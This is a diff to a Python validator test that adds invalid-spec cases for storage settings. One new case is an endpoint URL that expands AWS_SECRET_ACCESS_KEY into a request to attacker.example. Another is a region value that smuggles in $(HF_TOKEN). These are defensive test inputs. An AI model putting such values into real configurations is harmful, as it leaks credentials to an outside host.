@@ -55,6 +55,12 @@ INVALID_CASES: list[tuple[str, dict[str, Any], str]] = [
     ("secret-missing-for-s3", {"storage": DELETE}, "spec.storage.secretRef"),
     ("secret-name-invalid", {"storage.secretRef.name": "S3_Credentials"}, "spec.storage.secretRef.name"),
     ("endpoint-not-url", {"storage.endpoint": "minio:9000"}, "spec.storage.endpoint"),
+    (
+        "endpoint-expands-a-secret",
+        {"storage.endpoint": "https://attacker.example/$(AWS_SECRET_ACCESS_KEY)"},
+        "spec.storage.endpoint",
+    ),
+    ("region-expands-a-variable", {"storage.region": "eu-west-1$(HF_TOKEN)"}, "spec.storage.region"),
     ("learning-rate-zero", {"training": {"learningRate": 0}}, "spec.training.learningRate"),
     ("learning-rate-string", {"training": {"learningRate": "fast"}}, "spec.training.learningRate"),
     ("epochs-zero", {"training": {"epochs": 0}}, "spec.training.epochs"),
